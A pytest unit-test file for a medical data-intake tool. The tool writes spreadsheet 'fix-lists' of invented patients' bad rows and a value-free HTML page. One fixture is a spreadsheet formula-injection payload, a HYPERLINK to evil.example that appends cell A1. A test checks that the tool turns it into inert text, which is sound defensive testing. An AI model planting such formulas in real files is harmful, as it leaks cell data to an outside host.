"""The fix-list of a small centre: its rows, its patients, what is hostile, and when it is written."""

import os
import shutil
from datetime import date
from pathlib import Path

import pytest

from orchestration.fix_list import source_sheet, workbook
from orchestration.fix_list.told import told_by_intake
from orchestration.fix_list.writing import PAGE, WORKBOOK, write_fix_list, write_fix_lists_of_intake
from orchestration.landing import land_centre
from orchestration.paths import Paths
from tests.unit.fix_list_reading import Sheet, sheets_of

KEY, TODAY = b"k" * 16, date(2026, 1, 1)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUOTED = '"' + EVIL.replace('"', '""') + '"'
PROFILE = """
centre: riverside
name: Riverside (invented)
profile_version: 1
identifiers: [surname]
files:
  people: {path: people.csv, format: delimited}
  mets: {path: mets.csv, format: delimited}
tables:
  patients: {from: people, columns: {patient_id: case, sex: sex, birth_year: born}}
  primaries: {from: people, columns: {primary_id: case, patient_id: case}}
  episodes:
    from: people
    columns: {episode_id: case, patient_id: case, primary_id: case, diagnosis_date: found}
  lesions: {from: mets, columns: {lesion_id: met, episode_id: case, organ: organ, diameter_mm: size}}
"""
PEOPLE = f"""case,surname,sex,born,found,notes
P-1,Muster,male,1950,2020-01-01,fine
P-2,Beispiel,{QUOTED},1951,2020-02-01,{QUOTED}
P-3,Exempel,female,nineteen,2020-03-01,-99
P-4,Modell,female,1953,20200399,+49 30 1234
"""
METS = """met,case,organ,size
M-1,P-1,liver,12
M-2,P-1,livver,13
M-3,P-2,lunng,huge
M-4,P-4,liver,11
M-5,P-9,liver,11
M-6,P-1,liver
"""


def land(home: Path, people: str = PEOPLE, delivery: str = "2025-01-01") -> Paths:
    folder = home / "raw" / "riverside"
    (folder / delivery).mkdir(parents=True, exist_ok=True)
    (folder / "centre.yml").write_text(PROFILE)
    (folder / delivery / "people.csv").write_text(people)
    (folder / delivery / "mets.csv").write_text(METS)
    paths = Paths(home)
    land_centre(paths, "riverside", KEY, TODAY)
    return paths


def made(paths: Paths) -> tuple[dict[str, Sheet], str]:
    assert write_fix_lists_of_intake(paths, ["riverside"]) == []
    folder = paths.findings / "riverside"
    return sheets_of(folder / WORKBOOK), (folder / PAGE).read_text()


def test_rows_stand_as_sent_with_their_wrong_cells_marked(tmp_path: Path) -> None:
    sheets, _ = made(land(tmp_path))
    assert list(sheets) == ["Summary", "Fix first", "mets", "people"]
    people, mets = sheets["people"], sheets["mets"]
    assert [row["Row"] for row in people.rows()] == ["3", "4", "5"]
    assert people.header[3:] == ["case", "surname", "sex", "born", "found", "notes"]
    assert people.of_row(4)["surname"] == "Exempel"
    assert people.of_row(4)["notes"] == "-99"
    assert people.marked(4) == {"Severity": "error", "born": "error"}
    assert people.marked(5) == {"Severity": "error", "found": "error"}
    assert [row["Row"] for row in mets.rows()] == ["3", "4", "5", "6", "7"]
    assert mets.marked(3) == {"Severity": "error", "organ": "error"}
    told = mets.of_row(4)["What is wrong, and what to do"].split("\n")
    assert [line.partition(":")[0] for line in told] == ["1. size", "2. organ"]
    # A row that could not be cut has its number and what is wrong, and no values in the wrong columns.
    assert mets.of_row(7)["met"] == "" and "ells" in mets.of_row(7)["What is wrong, and what to do"]


def test_patients_are_counted_also_of_rows_set_aside(tmp_path: Path) -> None:
    sheets, _ = made(land(tmp_path))
    counts = {row["Rule"]: (row["Patients"], row["Rows"]) for row in sheets["Fix first"].rows()}
    assert counts["unknown_code"] == ("2", "3")  # two metastases and a sex of P-1 and P-2
    assert counts["parent_quarantined"][0] == "1"  # the metastasis of P-4, whose episode has no date
    assert counts["orphan"] == ("not known", "1")
    assert counts["ragged_row"] == ("not known", "1")
    assert next(iter(counts)) == "unknown_code"


def test_a_formula_of_a_stranger_arrives_as_text(tmp_path: Path) -> None:
    sheets, page = made(land(tmp_path))  # reading them asserts that no cell holds a formula
    assert sheets["people"].of_row(3)["notes"] == f"'{EVIL}"
    assert sheets["people"].of_row(5)["notes"] == "'+49 30 1234"
    assert "evil" not in page


def test_the_page_holds_no_value(tmp_path: Path) -> None:
    _, page = made(land(tmp_path))
    for value in ("P-1", "P-9", "M-2", "Muster", "Modell", "livver", "nineteen", "20200399", "1950"):
        assert value not in page
    for told in ("default-src 'none'", "mets.csv", "unknown_code", "organ", "people.csv", "riverside"):
        assert told in page
    assert "<script" not in page and "http" not in page.replace("http-equiv", "")


def test_files_are_the_owners_alone_and_nothing_else_is_left(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        paths = land(tmp_path)
        made(paths)
    finally:
        os.umask(old)
    folder = paths.findings / "riverside"
    assert folder.stat().st_mode & 0o777 == 0o700
    modes = {path.name: path.stat().st_mode & 0o777 for path in folder.iterdir()}
    assert modes == {WORKBOOK: 0o600, PAGE: 0o600, ".fix-list.json": 0o600}


def test_it_is_written_anew_only_where_something_changed_and_then_the_same(tmp_path: Path) -> None:
    paths = land(tmp_path)
    folder = paths.findings / "riverside"
    assert write_fix_list(paths, told_by_intake(paths, "riverside"))
    before = {name: (folder / name).read_bytes() for name in (WORKBOOK, PAGE)}
    assert not write_fix_list(paths, told_by_intake(paths, "riverside"))
    (folder / PAGE).unlink()
    assert write_fix_list(paths, told_by_intake(paths, "riverside"))
    assert {name: (folder / name).read_bytes() for name in (WORKBOOK, PAGE)} == before
    land(tmp_path, PEOPLE.replace("nineteen", "1952"))
    assert write_fix_list(paths, told_by_intake(paths, "riverside"))
    assert "4" not in {row["Row"] for row in sheets_of(folder / WORKBOOK)["people"].rows()}


def test_a_refused_delivery_says_why_and_shows_its_rows(tmp_path: Path) -> None:
    land(tmp_path)
    header = PEOPLE.splitlines()[0]
    sheets, page = made(land(tmp_path, f"{header}\n,Niemand,male,1950,2020-01-01,\n", "2025-06-01"))
    assert sheets["Files"].rows()[0]["Delivery"] == "2025-06-01"
    assert sheets["Files"].rows()[0]["Rule"] == "all_rows_refused"
    assert sheets["Fix first"].rows()[0]["Rule"] == "all_rows_refused"
    assert sheets["2025-06-01 people"].of_row(2)["surname"] == "Niemand"
    assert "2025-01-01 people" in sheets
    assert "all_rows_refused" in page and "Niemand" not in page


def test_rows_are_not_shown_when_the_export_is_another_now(tmp_path: Path) -> None:
    paths = land(tmp_path)
    (paths.raw / "riverside" / "2025-01-01" / "people.csv").write_text("case\nSomebody\n")
    sheets, _ = made(paths)
    assert sheets["people"].header == ["Row", "Severity", "What is wrong, and what to do"]
    assert [row["Row"] for row in sheets["people"].rows()] == ["3", "4", "5"]
    assert any("another now" in text for text in sheets["Summary"].texts.values())


def test_a_centre_without_findings_and_one_without_a_profile(tmp_path: Path) -> None:
    paths = land(tmp_path, "case,surname,sex,born,found,notes\nP-1,Muster,male,1950,2020-01-01,\n")
    (paths.raw / "riverside" / "2025-01-01" / "mets.csv").write_text(
        "met,case,organ,size\nM-1,P-1,liver,12\n"
    )
    land_centre(paths, "riverside", KEY, TODAY)
    sheets, page = made(paths)
    assert list(sheets) == ["Summary", "Fix first"] and "Nothing is open" in page
    shutil.rmtree(paths.landing)
    (paths.raw / "riverside" / "centre.yml").unlink()
    land_centre(paths, "riverside", KEY, TODAY)
    sheets, _ = made(paths)
    assert "profile_missing" in {row["Rule"] for row in sheets["Files"].rows()}


def test_what_is_too_much_is_told_and_no_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source_sheet, "MOST_ROWS", 20)
    monkeypatch.setattr(source_sheet, "MOST_COLUMNS", 6)
    monkeypatch.setattr(source_sheet, "MOST_NOTES", 3)
    monkeypatch.setattr(workbook, "MOST_SHEETS", 1)
    odd = "x" * 40_000 + "\x01\x0b\ufffe_x0041_"
    rows = "".join(f"P-{n},{odd if n == 7 else 'Muster'},male,nineteen,2020-01-01,\n" for n in range(100))
    sheets, _ = made(land(tmp_path, PEOPLE.splitlines()[0] + "\n" + rows))
    assert list(sheets) == ["Summary", "Fix first", "mets"]
    assert any("1 more files or sheets" in text for text in sheets["Summary"].texts.values())
    monkeypatch.setattr(workbook, "MOST_SHEETS", 9)
    (tmp_path / "warehouse" / "findings" / "riverside" / WORKBOOK).unlink()
    sheets, _ = made(Paths(tmp_path))
    people = sheets["people"]
    assert len(people.rows()) == 20 and len(people.header) == 6
    assert people.of_row(9)["surname"].endswith("characters)")
    said = " ".join(sheets["Summary"].texts.values())
    assert "80 more rows" in said and "3 more columns" in said
